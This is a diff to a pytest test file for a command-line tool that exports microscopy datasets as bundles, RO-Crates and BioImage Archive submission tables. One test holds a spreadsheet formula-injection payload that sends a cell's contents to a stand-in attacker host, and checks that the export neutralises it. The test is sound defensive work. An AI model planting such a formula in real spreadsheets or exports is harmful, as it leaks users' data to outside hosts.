@@ -5,7 +5,10 @@ from __future__ import annotations
 import json
 from pathlib import Path
 
+import numpy as np
 import pytest
+import tifffile
+import yaml
 from typer.testing import CliRunner
 
 from flows.cli import app
@@ -28,6 +31,11 @@ def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
         encoding="utf-8",
     )
     make_plain_tiff(inbox / "bare" / "p.tif")
+    labelled = make_ome_tiff(inbox / "labelled" / "l.ome.tif", seed=5)
+    first = tifffile.imread(labelled).reshape(2, 4, 96, 80)[0]
+    mask = (first > np.percentile(first, 80)).astype(np.uint16)
+    tifffile.imwrite(labelled.with_name("l.labels.cells.tif"), mask, photometric="minisblack")
+    (inbox / "labelled" / "fairway.yaml").write_text(SIDECAR_YAML, encoding="utf-8")
     age(inbox)
     home = root / "home"
     write_registry(home)
@@ -61,7 +69,7 @@ def test_bundle_is_verified_and_described(home: Path, tmp_path: Path) -> None:
     root = graph["./"]
     assert root["license"]["@id"] == "https://creativecommons.org/licenses/by/4.0/"
     assert root["name"].startswith("Live-cell imaging of EGFP-tagged focal adhesions")
-    assert [graph[a["@id"]]["name"] for a in root["author"]] == ["Ada Example"]
+    assert graph[root["author"]["@id"]]["name"] == "Ada Example"  # one: not a list
     assert "http://purl.obolibrary.org/obo/FBbi_00000253" in graph
     assert "http://purl.obolibrary.org/obo/NCBITaxon_9606" in graph
     assert graph["#instrument"]["serialNumber"] == "TI2-552107"
@@ -78,7 +86,7 @@ def test_bundle_is_verified_and_described(home: Path, tmp_path: Path) -> None:
     from ome_zarr.io import parse_url
     from ome_zarr.reader import Reader
 
-    nodes = list(Reader(parse_url(str(bundle / f"{dataset}.ome.zarr" / "0")))())
+    nodes = list(Reader(parse_url(str(bundle / f"{dataset}.ome.zarr")))())
     assert nodes and nodes[0].data[0].shape[-2:] == (96, 80)
     again = runner.invoke(app, ["--home", str(home), "get", dataset, str(tmp_path)])
     assert again.exit_code == 2 and "exists already" in again.output
@@ -126,7 +134,6 @@ def test_bioimage_archive_package(home: Path, tmp_path: Path) -> None:
         "Imaging Method",
         "Study Component",
         "Associations",
-        "Annotations",
     } <= set(sections)
     assert sections["Study"]["License"] == ["CC BY 4.0"]
     assert len(sections["Study"]["Keywords"]) == 4
@@ -194,3 +201,123 @@ def test_one_release_check_for_every_way_out(home: Path, tmp_path: Path) -> None
     curator = runner.invoke(app, [*base, "search", "--include-embargoed", "--json"])
     listed = {h["dataset"]: h["embargoed_until"] for h in json.loads(curator.stdout)}
     assert listed[embargoed] == "2999-01-01"
+
+
+def _bia(home: Path, dataset: str, dest: Path) -> Path:
+    result = runner.invoke(
+        app, ["--home", str(home), "publish", dataset, str(dest), "--to", "bia", "--json"]
+    )
+    assert result.exit_code == 0, result.output
+    return Path(json.loads(result.stdout)["path"])
+
+
+def test_bia_pagetab_leaves_the_accession_to_biostudies(home: Path, tmp_path: Path) -> None:
+    """Issue 13 item 13: no custom accession, values not reprs, Annotations only with labels."""
+    plain = _bia(home, _dataset(home, "a.ome.tif"), tmp_path / "plain")
+    text = (plain / "submission.tsv").read_text(encoding="utf-8")
+    assert text.splitlines()[0].split("\t") == ["Submission", ""]
+    sections = dict(_pagetab_sections(text))
+    assert "Annotations" not in sections  # the dataset has no label images
+    protocol = yaml.safe_load(SIDECAR_YAML)["specimen"]["sample_preparation_protocol"]
+    assert "#1.5 glass-bottom dishes" in protocol  # the demo sidecar keeps text after '#'
+    assert sections["Specimen"]["Sample preparation protocol"] == [protocol]
+    assert "[" not in text and "]" not in text  # no Python list reprs anywhere
+    labelled = _bia(home, _dataset(home, "l.ome.tif"), tmp_path / "labelled")
+    sections = dict(_pagetab_sections((labelled / "submission.tsv").read_text(encoding="utf-8")))
+    assert sections["Annotations"]["Annotation Type"] == ["segmentation_mask"]
+    assert sections["Annotations"]["Annotation Overview"] == [
+        "Focal adhesions segmented in every Z plane."
+    ]
+
+
+FORMULA = '=HYPERLINK("http://attacker.invalid/?d="&A1,"x")'
+
+
+def _cells(text: str) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(text), delimiter="\t"))
+
+
+def test_bia_tables_neutralise_spreadsheet_formulas(home: Path, tmp_path: Path) -> None:
+    """Issue 13 item 3: a formula set by a curator is inert text in every TSV fairway writes.
+
+    (A hostile channel name in file_list.tsv: tests/targets/test_bia.py.)
+    """
+    dataset = _dataset(home, "l.ome.tif")
+    fixed = runner.invoke(
+        app,
+        [
+            "--home",
+            str(home),
+            "fix",
+            dataset,
+            "--set",
+            f"study.keywords[4]={FORMULA}",
+            "--reason",
+            "test",
+        ],
+    )
+    assert fixed.exit_code == 0, fixed.output
+    folder = _bia(home, dataset, tmp_path)
+    submission = (folder / "submission.tsv").read_text(encoding="utf-8")
+    file_list = (folder / "file_list.tsv").read_text(encoding="utf-8")
+    # OWASP: a single quote before the formula, the cell quoted, inner quotes doubled
+    assert '"\'=HYPERLINK(""http://attacker.invalid/?d=""&A1,""x"")"' in submission
+    for text in (submission, file_list):
+        for row in _cells(text):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    keywords = dict(_pagetab_sections(submission))["Study"]["Keywords"]
+    assert len(keywords) == 5  # the four of the sidecar and the curator's
+    assert keywords[4] == '"\'=HYPERLINK(""http://attacker.invalid/?d=""&A1,""x"")"'
+
+
+def test_bundle_crate_passes_roc_validator(home: Path, tmp_path: Path) -> None:
+    """Issue 13 item 12: the `get` bundle's RO-Crate, checked offline with roc-validator."""
+    from tests.targets.test_archive import check_crate
+
+    dataset = _dataset(home, "a.ome.tif")
+    result = runner.invoke(app, ["--home", str(home), "get", dataset, str(tmp_path / "b")])
+    assert result.exit_code == 0, result.output
+    check_crate(tmp_path / "b" / dataset, tmp_path / "cache")
+    archived = home / "archive" / dataset / "data"
+    assert archived.is_dir()
+    check_crate(archived, tmp_path / "cache")
+
+
+def test_landing_page_and_cli_snippets_work_as_written(
+    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Issue 13 item 11: every way fairway tells a researcher to open the data opens it."""
+    import html
+    import re
+
+    import zarr
+    from ome_zarr.io import parse_url
+    from ome_zarr.reader import Reader
+
+    def nodes(path: str) -> list[object]:  # ome-zarr-py, which napari-ome-zarr reads through
+        return [n for n in Reader(parse_url(path))() if n.data]
+
+    dataset = _dataset(home, "a.ome.tif")
+    result = runner.invoke(app, ["--home", str(home), "get", dataset, str(tmp_path)])
+    assert result.exit_code == 0, result.output
+    bundle = tmp_path / dataset
+    # the CLI's hint
+    hint = next(x for x in result.output.splitlines() if x.startswith("or: napari "))
+    assert nodes(hint.removeprefix("or: napari "))
+    page = (bundle / "index.html").read_text(encoding="utf-8")
+    # the napari command, in the bundle folder
+    [shell] = re.findall(r'<code class="language-shell">(.*?)</code>', page, re.S)
+    assert nodes(str(bundle / html.unescape(shell).splitlines()[-1].removeprefix("napari ")))
+    # the Python snippet, run as written in the bundle folder
+    [code] = re.findall(r'<code class="language-python">(.*?)</code>', page, re.S)
+    monkeypatch.chdir(bundle)
+    names: dict[str, object] = {}
+    exec(html.unescape(code), names)  # the page's own snippet, as written
+    pixels, level0 = names["pixels"], names["level0"]
+    assert isinstance(level0, zarr.Array)
+    assert pixels.shape == level0.shape == (1, 2, 4, 96, 80)
+    assert (np.asarray(pixels) == level0[:]).all()
